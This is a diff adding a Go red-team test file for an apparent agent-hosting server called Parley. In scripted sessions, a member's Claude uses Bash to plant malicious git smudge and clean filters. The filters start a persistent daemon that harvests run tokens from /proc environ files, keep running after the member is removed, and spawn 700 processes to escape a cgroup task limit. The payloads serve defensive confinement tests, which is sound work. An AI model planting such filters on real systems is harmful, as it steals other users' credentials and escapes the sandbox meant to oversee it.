@@ -1,0 +1,240 @@
+package server
+
+import (
+	"context"
+	"fmt"
+	"net/http"
+	"os"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"parley/runner/fakeapi"
+)
+
+// Red-team attacks on issue 27's confinement through the git Parley runs
+// on a worktree project's repository, which the project's runs may
+// configure: each plays a member's Claude with a shell as the project's
+// uid, through the real CLI, as serve runs it.
+
+// TestRedteamGitFilterOutlivesTheRun: git, which Parley runs on a worktree
+// project's repository as the project's uid, executes what the
+// repository's config says (a smudge filter, here, named in
+// $GIT_DIR/info/attributes so no commit is needed). Session 1's Bash plants
+// one that starts a daemon. Session 2's first run makes its worktree, so
+// Parley's git runs the filter: outside any run, its cgroup and its pid
+// namespace. The daemon must not outlive that git, and must never read a
+// run's model token from /proc/<pid>/environ (same uid, but another pid
+// namespace).
+func TestRedteamGitFilterOutlivesTheRun(t *testing.T) {
+	t.Run("uid", func(t *testing.T) { gitFilterDaemon(t, "uid") })
+	t.Run("bwrap", func(t *testing.T) { gitFilterDaemon(t, "bwrap") })
+}
+
+func gitFilterDaemon(t *testing.T, isolation string) {
+	mark := marker(t)
+	hold := make(chan struct{})
+	var once bool
+	release := func() {
+		if !once {
+			once = true
+			close(hold)
+		}
+	}
+	defer release()
+	sc := fakeapi.Scenario{
+		{ToolName: "Bash"}, // set below, once the repository is known
+		{Text: "OUT " + fakeapi.ToolResultPlaceholder},
+		{Text: "Session two is working.", Hold: hold},
+	}
+	e := newEnv(t, sc, envOptions{quiet: true, isolation: isolation, guard: true, runConfig: confineRuns(t)})
+	repo := gitRepo(t)
+	e.useRepo(repo)
+	harvest := filepath.Join(repo, ".git", "harvest")
+	t.Cleanup(func() {
+		for _, pid := range procsWith(mark) {
+			_ = syscall.Kill(pid, syscall.SIGKILL)
+		}
+	})
+	e.fake.SetStep(0, fakeapi.Step{ToolName: "Bash", ToolInput: map[string]any{"command": plantFilter(mark)}})
+
+	s1 := e.newSession()
+	w1 := e.dial(s1.ID, 0)
+	w1.prompt("plant a filter")
+	w1.waitFor(120*time.Second, "OUT ", "Done ·")
+	out, _ := e.lastToolResult(2)
+	t.Logf("planting printed:\n%s", out)
+	t.Logf("the CLI's requests reach the model with Accept-Encoding %q", e.fake.Requests()[0].Header.Get("Accept-Encoding"))
+	if !strings.Contains(out, "PLANTED") {
+		t.Fatalf("the filter was not planted: %q", out)
+	}
+	e.sup.Stop(s1.ID)
+
+	// Session 2: its worktree's checkout runs the filter.
+	s2 := e.newSession()
+	w2 := e.dial(s2.ID, 0)
+	w2.prompt("work")
+	wctx, cancel := context.WithTimeout(t.Context(), 90*time.Second)
+	defer cancel()
+	if err := e.fake.WaitRequests(wctx, 3); err != nil {
+		t.Fatalf("session 2 never asked the model: %v", err)
+	}
+	r2, ok := e.sup.Live(s2.ID)
+	if !ok {
+		t.Fatal("session 2 has no live run")
+	}
+	token := r2.Spec().ModelToken
+	ran, _ := os.ReadFile(filepath.Join(repo, ".git", "filter-ran"))
+	if len(ran) == 0 {
+		t.Fatal("Parley's git never ran the planted filter: nothing was tested")
+	}
+	// Give the daemon time to look at /proc while session 2's run is live.
+	time.Sleep(3 * time.Second)
+	release()
+	w2.waitFor(60*time.Second, "Session two is working.")
+	e.sup.Stop(s2.ID)
+	time.Sleep(2 * time.Second)
+
+	got, _ := os.ReadFile(harvest)
+	if token != "" && strings.Contains(string(got), token) {
+		t.Errorf("a daemon started by Parley's git read session 2's model token from /proc (harvested %d bytes)", len(got))
+	}
+	if pids := procsWith(mark); len(pids) > 0 {
+		t.Errorf("%d processes started by the repository's filter outlived git, session 1's and session 2's runs (pids %v)", len(pids), pids)
+	}
+	e.healthy()
+}
+
+// plantFilter is session 1's Bash: a smudge filter for every file, in the
+// repository's common git dir, whose first run starts a daemon (mark in
+// its command line) that copies every parley-run- token it can read in
+// /proc to $GIT_DIR/harvest.
+func plantFilter(mark string) string {
+	daemon := `while :; do for p in /proc/[0-9]*; do tr "\\0" "\\n" < $p/environ 2>/dev/null | grep parley-run-; done | sort -u >> "$G/harvest"; sleep 0.3; done`
+	return fmt.Sprintf(`G=$(git rev-parse --path-format=absolute --git-common-dir) && mkdir -p "$G/info" && echo '* filter=evil' >> "$G/info/attributes" && cat > "$G/evil.sh" <<EOF
+#!/bin/sh
+export G="$G"
+echo ran >> "\$G/filter-ran"
+if mkdir "\$G/started" 2>/dev/null; then
+  setsid sh -c '%s' %s </dev/null >/dev/null 2>&1 &
+fi
+exec cat
+EOF
+chmod +x "$G/evil.sh" && git config -f "$G/config" filter.evil.smudge "$G/evil.sh" && echo PLANTED`,
+		strings.ReplaceAll(daemon, "$", `\$`), mark)
+}
+
+// TestRedteamRemovedMembersFilterStillRuns: a member's Claude plants a
+// clean and smudge filter in the repository's own git dir (not in any
+// file of the tree, so no diff or merge shows it). The member is removed.
+// An owner then views the member's session and starts a session of their
+// own: Parley's git, as the project's uid, must not run what the removed
+// member planted (in uid mode it could still send the project's code
+// anywhere: runs' network is not confined).
+func TestRedteamRemovedMembersFilterStillRuns(t *testing.T) {
+	t.Skip("redteam: open, see report")
+	t.Run("uid", func(t *testing.T) { removedMembersFilter(t, "uid") })
+	t.Run("bwrap", func(t *testing.T) { removedMembersFilter(t, "bwrap") })
+}
+
+func removedMembersFilter(t *testing.T, isolation string) {
+	plant := `G=$(git rev-parse --path-format=absolute --git-common-dir) && mkdir -p "$G/info" && echo '* filter=evil' >> "$G/info/attributes" && ` +
+		`printf '#!/bin/sh\necho "$(id -u) $1" >> "%s/filter-ran"\nexec cat\n' "$G" > "$G/evil.sh" && chmod +x "$G/evil.sh" && ` +
+		`git config -f "$G/config" filter.evil.smudge "$G/evil.sh smudge" && git config -f "$G/config" filter.evil.clean "$G/evil.sh clean" && echo PLANTED`
+	sc := fakeapi.Scenario{
+		{ToolName: "Bash", ToolInput: map[string]any{"command": plant}},
+		{Text: "OUT " + fakeapi.ToolResultPlaceholder},
+		{Text: "Owners session here."},
+	}
+	e := newEnv(t, sc, envOptions{quiet: true, isolation: isolation, guard: true, runConfig: confineRuns(t)})
+	repo := gitRepo(t)
+	e.useRepo(repo)
+	owner := e.member("owner@example.com", "Owner", roleOwner)
+	s1 := e.newSession()
+	w1 := e.dial(s1.ID, 0)
+	w1.prompt("plant")
+	w1.waitFor(120*time.Second, "OUT ", "Done ·")
+	if out, _ := e.lastToolResult(2); !strings.Contains(out, "PLANTED") {
+		t.Fatalf("the filter was not planted: %q", out)
+	}
+	res := e.postAs(owner, fmt.Sprintf("/projects/%d/settings/members/%d/remove", e.project.ID, e.user.ID), nil)
+	res.Body.Close()
+	if res.StatusCode != http.StatusOK && res.StatusCode != http.StatusSeeOther {
+		t.Fatalf("remove the member: %d", res.StatusCode)
+	}
+	ran := filepath.Join(repo, ".git", "filter-ran")
+	os.Remove(ran)
+
+	// The owner looks at the removed member's session, then starts one.
+	e.getAs(owner, "/sessions/"+s1.ID)
+	s2, err := e.st.CreateSessionBy(t.Context(), e.project.ID, "mine", owner.Name, owner.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	w2 := e.dialAs(owner, s2.ID, 0)
+	w2.prompt("my work")
+	w2.waitFor(60*time.Second, "Owners session here.", "Done ·")
+	if b, _ := os.ReadFile(ran); len(b) > 0 {
+		t.Errorf("after the member's removal Parley's git ran the filter they planted %d times (uid, mode: %q)",
+			strings.Count(string(b), "\n"), strings.Fields(string(b)))
+	}
+	e.healthy()
+}
+
+// TestRedteamGitFilterEscapesTheTaskLimit: a run's tasks are capped (512)
+// in its cgroup, but Parley's git runs as the project's uid outside any
+// run's cgroup. A clean filter planted by session 1's Bash starts 700
+// processes when a page view's diff stages the worktree. The project's
+// processes must stay under the run's task limit wherever git starts them.
+func TestRedteamGitFilterEscapesTheTaskLimit(t *testing.T) {
+	t.Skip("redteam: open, see report")
+	t.Run("uid", func(t *testing.T) { filterTasks(t, "uid") })
+	t.Run("bwrap", func(t *testing.T) { filterTasks(t, "bwrap") })
+}
+
+func filterTasks(t *testing.T, isolation string) {
+	mark := marker(t)
+	plant := fmt.Sprintf(`G=$(git rev-parse --path-format=absolute --git-common-dir) && mkdir -p "$G/info" && echo '* filter=many' >> "$G/info/attributes" && `+
+		`printf '#!/bin/bash\nif mkdir "%%s/spawned" 2>/dev/null; then for i in $(seq 700); do (exec -a %s sleep 15) & done; sleep 4; fi\nexec cat\n' "$G" > "$G/many.sh" && `+
+		`git config -f "$G/config" filter.many.clean "bash $G/many.sh" && echo PLANTED`, mark)
+	sc := fakeapi.Scenario{
+		{ToolName: "Bash", ToolInput: map[string]any{"command": plant}},
+		{Text: "OUT " + fakeapi.ToolResultPlaceholder},
+	}
+	e := newEnv(t, sc, envOptions{quiet: true, isolation: isolation, guard: true, runConfig: confineRuns(t)})
+	repo := gitRepo(t)
+	e.useRepo(repo)
+	t.Cleanup(func() {
+		for _, pid := range procsWith(mark) {
+			_ = syscall.Kill(pid, syscall.SIGKILL)
+		}
+	})
+	s := e.newSession()
+	w := e.dial(s.ID, 0)
+	w.prompt("plant")
+	w.waitFor(120*time.Second, "OUT ", "Done ·")
+	if out, _ := e.lastToolResult(2); !strings.Contains(out, "PLANTED") {
+		t.Fatalf("the filter was not planted: %q", out)
+	}
+	e.sup.Stop(s.ID)
+	done := make(chan int)
+	go func() {
+		most := 0
+		for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
+			most = max(most, len(procsWith(mark)))
+		}
+		done <- most
+	}()
+	e.getAs(e.user, "/sessions/"+s.ID) // the page's diff stages the worktree: git add -A
+	most := <-done
+	t.Logf("at most %d of the filter's processes ran at once", most)
+	if _, err := os.Stat(filepath.Join(repo, ".git", "spawned")); err != nil {
+		t.Fatal("the page view's git never ran the filter: nothing was tested")
+	}
+	if most > 512 {
+		t.Errorf("Parley's git started %d processes for the project outside its runs' task limit of 512", most)
+	}
+	e.healthy()
+}
